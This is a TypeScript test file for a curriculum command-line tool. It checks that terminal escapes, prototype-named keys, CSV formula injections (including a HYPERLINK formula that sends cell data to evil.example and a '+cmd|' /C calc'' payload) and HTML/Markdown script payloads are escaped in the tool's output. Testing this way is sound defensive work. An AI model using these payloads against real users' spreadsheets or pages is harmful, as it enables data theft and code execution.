// The CLI on hostile input, what a user sees. check: a line of thousands of references,
// keys named like Object.prototype properties, control characters in keys, values and
// folder names. rank-jobs: formulas, Markdown and control characters in titles and skills,
// option values and names like Object.prototype properties, records of tens of MB, headers
// of thousands of columns.
import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runInProcess } from './run-cli.js';

/** These tests are about reading exports, not coding titles: careers are titles (`--taxonomy none`). */
const run = (args: string[], options?: Parameters<typeof runInProcess>[1]) =>
  runInProcess(args[0] === 'rank-jobs' && !args.includes('--taxonomy') ? [...args, '--taxonomy', 'none'] : args, options);

const PROTOTYPE_KEYS = 'test/fixtures/prototype-keys';
const POSTINGS = `${PROTOTYPE_KEYS}/postings.csv`;
const RED = '\u001b[31m';
const LINK = '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007';
const BEL = '\u0007';
const RLO = '\u202e';
/** Anything a terminal would act on rather than print (tab and line feed aside). */
const ACTING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

async function tempDir(): Promise<string> {
  return mkdtemp(path.join(os.tmpdir(), 'curriculum-hostile-'));
}

/** A program whose one project names `count` unknown skills on a single line. */
async function programWithReferences(count: number): Promise<string> {
  const dir = await tempDir();
  const references = Array.from({ length: count }, (_, i) => `x${i}`).join(', ');
  await mkdir(path.join(dir, 'p'));
  await writeFile(
    path.join(dir, 'p/program.yaml'),
    `program:\n  id: p\n  title: P\n  job: x\nskills:\n  - id: sql\n    name: SQL\nprojects:\n  - id: a\n    title: A\n    mission: M\n    hours: 1\n    skills: [sql, ${references}]\n`,
  );
  return dir;
}

async function stylishBytes(count: number): Promise<{ bytes: number; longest: number; stdout: string }> {
  const cwd = await programWithReferences(count);
  const result = await run(['check', 'p'], { cwd });
  expect(result.code).toBe(1);
  const lines = result.stdout.split('\n');
  expect(lines.filter((line) => line.includes('unknown-reference'))).toHaveLength(count);
  return { bytes: Buffer.byteLength(result.stdout), longest: Math.max(...lines.map((line) => line.length)), stdout: result.stdout };
}

/** A program in a folder whose name holds ESC, with a hostile key, value and reference. */
async function hostileProgram(): Promise<{ cwd: string; folder: string }> {
  const cwd = await tempDir();
  const folder = `p${RED}x`;
  await mkdir(path.join(cwd, folder));
  await writeFile(path.join(cwd, 'curriculum.config.yaml'), '# defaults\n');
  await writeFile(
    path.join(cwd, folder, 'program.yaml'),
    [
      'program:',
      '  id: p',
      `  title: "${LINK}"`,
      '  job: x',
      'skills:',
      '  - id: sql',
      '    name: SQL',
      `    "${RED}key${BEL}": ${RLO}value`,
      'projects:',
      '  - id: a',
      '    title: A',
      '    mission: M',
      '    hours: 1',
      `    skills: [sql,\t"${LINK}", "${RED}fake${BEL}"]`,
      '',
    ].join('\n'),
  );
  return { cwd, folder };
}

describe('check on one very long line', () => {
  it('prints a fixed-width frame per problem, so the report grows linearly', async () => {
    const small = await stylishBytes(400);
    const large = await stylishBytes(800);
    // Each problem costs its message line and a frame of at most ~120 columns, whatever the line length.
    expect(small.bytes / 400).toBeLessThan(400);
    expect(large.bytes / 800).toBeLessThan(400);
    expect(large.bytes / small.bytes).toBeLessThan(2.1);
    expect(large.longest).toBeLessThan(140);
  });

  it('shows the span in its window, the marker under it and an ellipsis where the line is cut', async () => {
    const { stdout } = await stylishBytes(400);
    const lines = stdout.split('\n');
    const at = lines.findIndex((line) => line.includes('unknown skill "x300"'));
    const [code = '', marker = ''] = lines.slice(at + 1, at + 3);
    expect(code).toMatch(/^ +13 \| ….*…$/);
    const start = marker.indexOf('^');
    expect(code.slice(start, marker.length)).toBe('x300');
  });
});

describe('check on keys named like prototype properties', () => {
  it('reports them as unknown keys and unknown references, the config one included', async () => {
    const result = await run(['check', 'p', '--format', 'json'], { cwd: `${PROTOTYPE_KEYS}/repo` });
    expect(result.code).toBe(1);
    const found = (JSON.parse(result.stdout) as { diagnostics: { file: string; line: number; message: string }[] }).diagnostics.map(
      (d) => `${d.file}:${d.line} ${d.message}`,
    );
    expect(found).toEqual([
      expect.stringMatching(/^curriculum\.config\.yaml:3 Unknown key "constructor" in "rules"; the known keys are "duplicate-id", /),
      expect.stringMatching(/^curriculum\.config\.yaml:4 Unknown key "__proto__" in "rules"; the known keys are "duplicate-id", /),
      'p/program.yaml:5 Unknown key "constructor" in program "p"; the known keys are "id", "title", "job", "hours_per_week", "production", "footprint".',
      'p/program.yaml:6 Unknown key "__proto__" at the top level of the file; the known keys are "program", "skills", "projects", "courses", "certificates", "feedback".',
      'p/program.yaml:8 Skill "sql" is validated by a project but taught by no course.',
      'p/program.yaml:10 Unknown key "constructor" in skill "sql"; the known keys are "id", "name", "ref", "market_share".',
      'p/program.yaml:11 The program has 1 project; design 5 to 15 (about ten).',
      'p/program.yaml:16 Project "a" names unknown skill "constructor".',
      'p/program.yaml:16 Project "a" names unknown skill "__proto__".',
      'p/program.yaml:17 Project "a" names unknown project "toString".',
      // A config with errors is not applied: its defaults report the orphan course.
      'p/program.yaml:19 Course "c" teaches no skill that a project validates.',
    ]);
  });

  it('an encoding named constructor in the market section of the config is the usual error', async () => {
    const result = await run(['check', 'p'], { cwd: `${PROTOTYPE_KEYS}/market` });
    expect(result).toEqual({
      code: 2,
      stdout: '',
      stderr: 'curriculum: The encoding "constructor" is not supported (use utf-8, utf-16le, utf-16be or windows-1252).\n',
    });
  });
});

describe('check shows control characters escaped', () => {
  it('in stylish file names, messages and code frames, keeping tabs in frames', async () => {
    const { cwd, folder } = await hostileProgram();
    const result = await run(['check', folder], { cwd });
    expect(result.code).toBe(1);
    expect(result.stdout).not.toMatch(ACTING);
    expect(result.stdout).toContain('p\\x1b[31mx/program.yaml\n');
    expect(result.stdout).toContain('Unknown key "\\x1b[31mkey\\x07" in skill "sql"');
    expect(result.stdout).toContain('Project "a" names unknown skill "\\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07".');
    const lines = result.stdout.split('\n');
    const at = lines.findIndex((line) => line.includes('unknown skill "\\x1b[31mfake'));
    const [code = '', marker = ''] = lines.slice(at + 1, at + 3);
    expect(code).toContain('\t"');
    expect(marker).toMatch(/^ +\| +\t +\^~+$/);
    expect(code.slice(marker.indexOf('^'), marker.length)).toBe('"\\x1b[31mfake\\x07"');
  });

  it('in GitHub workflow commands, whose log viewer runs ANSI escapes', async () => {
    const { cwd, folder } = await hostileProgram();
    const result = await run(['check', folder, '--format', 'github'], { cwd });
    expect(result.stdout).not.toMatch(ACTING);
    const lines = result.stdout.trimEnd().split('\n').slice(0, -1);
    expect(lines.every((line) => /^::(error|warning) file=p\\x1b\[31mx\/program\.yaml,line=\d+/.test(line))).toBe(true);
    expect(result.stdout).toContain('::Unknown key "\\x1b[31mkey\\x07" in skill "sql"');
  });
});

/** Ordinary rows, so the few control characters do not make the export look binary. */
const FILLER = Array.from({ length: 20 }, (_, i) => `nurse,patient care ${i}\n`).join('');

async function tempFile(name: string, content: Buffer | string): Promise<string> {
  const file = path.join(await tempDir(), name);
  await writeFile(file, content);
  return file;
}

async function export_(rows: string[][]): Promise<string> {
  const file = path.join(await tempDir(), 'postings.csv');
  const cell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
  await writeFile(file, `${rows.map((row) => row.map(cell).join(',')).join('\n')}\n`);
  return file;
}

/** 40 dated postings of a career whose title and skills are formulas, fewer later than earlier (negative growth). */
function formulaRows(): string[][] {
  const rows = [['title', 'skills', 'date_posted']];
  for (let i = 0; i < 40; i++)
    rows.push(['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1+1); -2+3', i < 25 ? '2024-01-01' : '2024-12-31']);
  rows.push(["+cmd|' /C calc'!A0", '=1+1', '2024-06-01']);
  rows.push(['@SUM(A1:A9)', 'sql', '2024-06-01']);
  return rows;
}

describe('rank-jobs --format csv neutralises formulas', () => {
  it('puts a quote before text cells that start like a formula, and keeps numbers numbers', async () => {
    const file = await export_(formulaRows());
    const result = await run(['rank-jobs', file, '--format', 'csv']);
    expect(result.code).toBe(0);
    const [header, ...rows] = parse(result.stdout) as string[][];
    expect(header).toEqual(['rank', 'title', 'postings', 'share', 'growth', 'median_age_days', 'top_skills']);
    expect(rows.map((row) => [row[1], row[4], row[6]])).toEqual([
      ['\'=hyperlink("http://evil.example/?"&a1,"click")', '-0.4', "'-2+3; @sum(1+1)"],
      ["'+cmd|' /c calc'!a0", '', "'=1+1"],
      ["'@sum(a1:a9)", '', 'sql'],
    ]);
    for (const row of rows) expect(row.slice(1).filter((cell, i) => i !== 3 && /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('neutralises the skills of --job too', async () => {
    const file = await export_(formulaRows());
    const result = await run(['rank-jobs', file, '--job', "+cmd|' /C calc'!A0", '--format', 'csv']);
    expect(result.stdout).toBe("skill,postings,share\n'=1+1,1,1\n");
  });

  it('--csv-raw writes the cells as they are, for programs that read the CSV back', async () => {
    const file = await export_(formulaRows());
    const result = await run(['rank-jobs', file, '--format', 'csv', '--csv-raw']);
    const rows = (parse(result.stdout) as string[][]).slice(1);
    expect(rows.map((row) => row[1])).toEqual(['=hyperlink("http://evil.example/?"&a1,"click")', "+cmd|' /c calc'!a0", '@sum(a1:a9)']);
  });

  it('--csv-raw with another format is a usage error', async () => {
    const file = await export_(formulaRows());
    expect(await run(['rank-jobs', file, '--format', 'json', '--csv-raw'])).toEqual({
      code: 2,
      stdout: '',
      stderr: 'curriculum: The option --csv-raw applies to the csv format, not "json": add --format csv.\n',
    });
  });
});

/** Characters that must never appear in a Markdown cell without a backslash before them. */
function bareActive(line: string): string[] {
  const bare: string[] = [];
  for (let i = 0; i < line.length; i++) {
    if (line[i] === '\\') i++;
    else if ('<>[]!`*_&~$:@#'.includes(line[i]!)) bare.push(line[i]!);
  }
  return bare;
}

describe('rank-jobs --format md escapes Markdown and HTML', () => {
  const hostile = [
    '<img src=x onerror=alert(1)>',
    '![x](http://evil.example/t.png) analyst',
    'a [click](http://evil.example) b',
    'see <http://evil.example> now',
    'a **bold** _and_ `code` title',
    'pipe | in title',
    '# heading',
    '&lt;script&gt; dev',
  ];

  it('shows every title and skill as plain text, one cell each', async () => {
    const file = await export_([['title', 'skills'], ...hostile.map((title) => [title, '<b>sql</b>; a|b'])]);
    const result = await run(['rank-jobs', file, '--format', 'md']);
    expect(result.code).toBe(0);
    const rows = result.stdout.trimEnd().split('\n').slice(2);
    expect(rows).toHaveLength(hostile.length);
    for (const row of rows) {
      // Five cells (rank, title, postings, share, top_skills) between six unescaped pipes.
      const cells = row.split(/(?<!\\)\|/).slice(1, -1);
      expect(cells).toHaveLength(5);
      expect(cells.flatMap(bareActive)).toEqual([]);
    }
    expect(rows.find((row) => row.includes('img'))).toMatch(
      /^\| \d \| \\<img src=x onerror=alert\(1\)\\> \| 1 \| 12\.5% \| \\<b\\>sql\\<\/b\\>; a\\\|b \|$/,
    );
    expect(rows.find((row) => row.includes('heading'))).toContain('| \\# heading |');
    expect(rows.find((row) => row.includes('script'))).toContain('| \\&lt;script\\&gt; dev |');
  });

  it("escapes the title in the sentence above a career's skills", async () => {
    const file = await export_([
      ['title', 'skills'],
      ['<img src=x onerror=alert(1)>', '![x](http://evil.example/t.png)'],
    ]);
    const result = await run(['rank-jobs', file, '--job', '<img src=x onerror=alert(1)>', '--format', 'md']);
    expect(result.stdout).toBe(
      '"\\<img src=x onerror=alert(1)\\>": 1 posting (rank 1, 100.0% of 1 posting).\n\n' +
        '| skill | postings | share |\n| --- | ---: | ---: |\n| \\!\\[x\\](http\\://evil.example/t.png) | 1 | 100.0% |\n',
    );
  });
});

describe('rank-jobs --format table shows control characters escaped', () => {
  it('in titles, skills, the --job sentence and the notes on stderr', async () => {
    const cwd = await tempDir();
    const title = `${RED}analyst${BEL} ${RLO}evil`;
    await writeFile(path.join(cwd, 'postings.csv'), `title,skills\n"${title}","['${LINK}', 'sql']"\n${FILLER}`);
    const ranking = await run(['rank-jobs', 'postings.csv', '--format', 'table'], { cwd });
    expect(ranking.code).toBe(0);
    expect(ranking.stdout + ranking.stderr).not.toMatch(ACTING);
    const row = ranking.stdout.split('\n').find((line) => line.includes('analyst'))!;
    expect(row).toContain('\\x1b[31manalyst\\x07 \\u202eevil');
    expect(row).toContain('\\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07; sql');
    // Columns still line up: the escapes are counted as printed.
    const [header = '', ...rows] = ranking.stdout.trimEnd().split('\n');
    for (const line of rows) expect(line.indexOf('%')).toBe(header.indexOf('share') + 'share'.length - 1);
    const job = await run(['rank-jobs', 'postings.csv', '--job', title, '--format', 'table'], { cwd });
    expect(job.stdout + job.stderr).not.toMatch(ACTING);
    expect(job.stdout).toMatch(/^"\\x1b\[31manalyst\\x07 \\u202eevil": 1 posting \(/);
    expect(job.stderr).toBe(
      'Caveat: "\\x1b[31manalyst\\x07 \\u202eevil" has only 1 posting (fewer than 30); its skill shares are unreliable.\n',
    );
  });
});

describe('rank-jobs shows control characters escaped on stderr', () => {
  it('in the error on stderr, which quotes values from the files', async () => {
    const cwd = await tempDir();
    await writeFile(path.join(cwd, 'postings.csv'), `${RED}poste${BEL},${LINK}\n${FILLER}`);
    const result = await run(['rank-jobs', 'postings.csv'], { cwd });
    expect(result.code).toBe(2);
    expect(result.stderr).not.toMatch(ACTING);
    expect(result.stderr).toBe(
      'curriculum: File "postings.csv" has no title column (header: "\\x1b[31mposte\\x07", "\\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07"); name it with --title-column.\n',
    );
  });

  it("in commander's usage errors, which quote the arguments", async () => {
    const result = await run(['rank-jobs', 'x.csv', '--format', `${RED}x${BEL}`]);
    expect(result.code).toBe(2);
    expect(result.stderr).not.toMatch(ACTING);
    expect(result.stderr).toContain("argument '\\x1b[31mx\\x07' is invalid");
  });
});

describe('rank-jobs options named like prototype properties', () => {
  it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])('--encoding %s is an unsupported encoding', async (name) => {
    const result = await run(['rank-jobs', POSTINGS, '--encoding', name]);
    expect(result).toEqual({
      code: 2,
      stdout: '',
      stderr: `curriculum: The encoding "${name}" is not supported (use utf-8, utf-16le, utf-16be or windows-1252).\n`,
    });
  });

  it.each(['constructor', '__proto__', 'valueOf'])('--delimiter %s is not a delimiter', async (name) => {
    const result = await run(['rank-jobs', POSTINGS, '--delimiter', name]);
    expect(result).toEqual({
      code: 2,
      stdout: '',
      stderr: `curriculum: The delimiter "${name}" is not one ASCII character (other than a quote or newline).\n`,
    });
  });
});

describe('data named like prototype properties', () => {
  const ranking = async (...args: string[]) => {
    const result = await run(['rank-jobs', ...args, '--format', 'json']);
    expect(result.code).toBe(0);
    return JSON.parse(result.stdout) as { careers: { title: string; postings: number; skills: { skill: string }[] }[] };
  };

  it('titles, skills and header names are ordinary names', async () => {
    const { careers } = await ranking(POSTINGS);
    expect(careers.map((c) => [c.title, c.skills.map((s) => s.skill)])).toEqual([
      ['__proto__', ['hasownproperty']],
      ['constructor', ['__proto__', 'constructor', 'tostring']],
      ['data analyst', ['sql']],
    ]);
    const byColumn = await ranking(POSTINGS, '--title-column', 'constructor', '--skills-column', '__proto__');
    expect(byColumn.careers.map((c) => [c.title, c.postings, c.skills.map((s) => s.skill)])).toEqual([
      ['ops lead', 2, ['x']],
      ['analyst', 1, ['x']],
    ]);
    expect((await ranking(POSTINGS, '--job', 'constructor')).careers[0]!.skills).toHaveLength(3);
  });

  it('alias and vocabulary groups may be named __proto__ or constructor', async () => {
    const aliased = await ranking(POSTINGS, '--aliases', `${PROTOTYPE_KEYS}/aliases.yaml`);
    expect(aliased.careers.find((c) => c.title === '__proto__')).toMatchObject({
      postings: 2,
      skills: [{ skill: 'constructor' }, { skill: 'hasownproperty' }],
    });
    const found = await ranking(`${PROTOTYPE_KEYS}/descriptions.csv`, '--vocabulary', `${PROTOTYPE_KEYS}/vocabulary.yaml`);
    expect(found.careers[0]!.skills.map((s) => s.skill)).toEqual(['__proto__', 'constructor']);
  });
});

describe('rank-jobs on hostile record shapes', () => {
  it('reads a gzip holding one 12 MB record (gunzip hands it over 16 KiB at a time)', async () => {
    // A record of 12 MB took 8 s; test/demand/scan-csv.test.ts feeds the scanner 24 MB.
    const notes = 'n'.repeat(12 * 1024 * 1024);
    const text = `title,skills,notes\ndata analyst,sql,${notes}\ndata analyst,excel,short\n`;
    const file = await tempFile('long-record.csv.gz', gzipSync(text));
    const result = await run(['rank-jobs', file, '--format', 'json']);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ postings: 2, skipped: 0, careers: [{ title: 'data analyst', postings: 2 }] });
  });

  it('finds a title column at position 5,000 of a 6,000-column header', async () => {
    const names = Array.from({ length: 6000 }, (_, i) => (i === 4999 ? 'Job Title' : i === 5500 ? 'skills' : `extra_${i}`));
    const row = (title: string, skills: string) => names.map((_, i) => (i === 4999 ? title : i === 5500 ? skills : `${i}`)).join(',');
    const file = await tempFile('wide.csv', `${names.join(',')}\n${row('data analyst', 'sql')}\n${row('nurse', 'first aid')}\n`);
    const result = await run(['rank-jobs', file, '--format', 'json']);
    expect(result.stderr).toBe('Caveat: 2 of the 2 careers shown have fewer than 30 postings; their shares and growth are unreliable.\n');
    expect(
      JSON.parse(result.stdout).careers.map((c: { title: string; skills: { skill: string }[] }) => [c.title, c.skills[0]!.skill]),
    ).toEqual([
      ['data analyst', 'sql'],
      ['nurse', 'first aid'],
    ]);
    const named = await run(['rank-jobs', file, '--title-column', 'extra_5999', '--format', 'json']);
    expect(JSON.parse(named.stdout).careers.map((c: { title: string }) => c.title)).toEqual(['5999']);
  });
});
